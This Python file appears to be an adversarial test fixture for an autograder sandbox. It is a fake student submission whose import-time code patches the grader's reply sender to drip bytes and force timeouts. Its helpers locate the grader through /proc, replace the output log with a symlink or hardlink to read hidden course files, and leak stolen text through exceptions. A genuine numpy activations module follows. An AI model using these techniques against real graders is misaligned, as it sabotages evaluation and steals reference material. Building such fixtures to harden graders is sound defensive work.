# ======== ADVERSARIAL (drip_across_calls): importing activations.py patches the worker's reply sender so every reply trickles out one byte per second for 3 s (each call stays under its 4 s budget); the submission's 10 s total deadline is absolute: the run ends within it, the derivation (checked in the parent) keeps full marks, most code tests time out
# --- adversarial helpers (shared text inserted into hostile files) ---
import os as _aos
import sys as _asys
import time as _atime

_MARK = "graders-adversarial-survivor"
_HERE = _aos.path.dirname(_aos.path.abspath(__file__))


def _adv_read(path, limit=1500):
    with open(path, "rb") as fh:
        return fh.read(limit).replace(b"\0", b"\n").decode("utf-8", "replace")


def _adv_status(pid, key):
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith(key + ":"):
                return line.split()[1:]
    return []


def _adv_cmdline(pid):
    try:
        return _adv_read(f"/proc/{pid}/cmdline", 4000)
    except OSError:
        return ""


def _adv_ancestors():
    """Outer pids of this process's ancestors (the /proc mount may be the host's)."""
    try:
        pid = int(_adv_status("self", "NSpid")[0])
    except (OSError, IndexError, ValueError):
        pid = _aos.getpid()
    chain, seen = [], set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        try:
            ppid = int(_adv_status(pid, "PPid")[0])
        except (OSError, IndexError, ValueError):
            break
        if ppid <= 0:
            break
        chain.append(ppid)
        pid = ppid
    if not chain and _aos.getppid() > 0:
        chain.append(_aos.getppid())
    return chain


def _adv_grader_pid():
    """The grading process: the first ancestor above the warm template."""
    chain = _adv_ancestors()
    last_template = -1
    for i, pid in enumerate(chain):
        if "graders.core.sandbox.child.forkserver" in _adv_cmdline(pid):
            last_template = i
    if 0 <= last_template < len(chain) - 1:
        return chain[last_template + 1]
    return chain[0] if chain else _aos.getppid()


def _adv_course_root():
    """Where the course (graders/, reference/) lives, as far as this process can tell."""
    pkg = _asys.modules.get("graders")
    path = getattr(pkg, "__file__", None) if pkg else None
    if path:
        return _aos.path.dirname(_aos.path.dirname(_aos.path.abspath(path)))
    for pid in _adv_ancestors():
        try:
            cwd = _aos.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if _aos.path.isdir(_aos.path.join(cwd, "graders")):
            return cwd
    return "/work/main"


def _adv_hidden(rel):
    return _aos.path.join(_adv_course_root(), rel)


def _adv_crash_with_log(target, kind="symlink"):
    """Replace the worker's output log (which the grader reads after a crash), then crash."""
    log = _aos.path.join(_HERE, ".output.log")
    try:
        _aos.unlink(log)
    except OSError:
        pass
    try:
        if kind == "symlink":
            _aos.symlink(target, log)
        elif kind == "hardlink":
            _aos.link(target, log)
        elif kind == "fifo":
            _aos.mkfifo(log)
        elif kind == "sparse":
            with open(log, "wb") as fh:
                fh.truncate(16 * 2**20 - 64)
                fh.seek(0, 2)
                fh.write(b"graders-adversarial-huge-log-end")
    except OSError:
        pass
    _aos._exit(3)


def _adv_leak(label, text):
    """Make a theft visible: the stolen text goes into the exception message (and so the report)."""
    raise RuntimeError(f"LEAKED {label}:\n{text}")
# --- end helpers ---
def _adv_install_drip():
    import struct

    def drip(sock, frame):
        for i in range(3):
            sock.sendall(frame[i:i + 1])
            _atime.sleep(1.0)
        sock.sendall(frame[3:])

    _p = _asys.modules.get("graders.core.sandbox.wire.protocol")
    if _p is not None:
        def send(sock, obj, *args, _pack=_p.pack):
            body = _pack(obj)
            drip(sock, struct.pack("!I", len(body)) + body)
        _p.send = send
    _f = _asys.modules.get("graders.core.sandbox.wire.framing")
    if _f is not None:
        def send_frame(sock, body, *args):
            drip(sock, struct.pack("!I", len(body)) + body)
        _f.send_frame = send_frame


_adv_install_drip()
# ======== end of the attack; the correct solution follows

"""My activations (numpy)."""
import numpy as np


def sigmoid(z):
    # sigma(z) = (1 + tanh(z / 2)) / 2: no exp, so nothing can overflow
    return 0.5 * (1.0 + np.tanh(0.5 * np.asarray(z, dtype=np.float64)))


def sigmoid_grad(z):
    s = sigmoid(z)
    return s - s * s


def tanh(z):
    return np.tanh(z)


def tanh_grad(z):
    th = np.tanh(z)
    return (1 - th) * (1 + th)


def relu(z):
    z = np.asarray(z, dtype=np.float64)
    return np.where(z > 0, z, 0.0)


def relu_grad(z):
    return np.heaviside(z, 0.0)
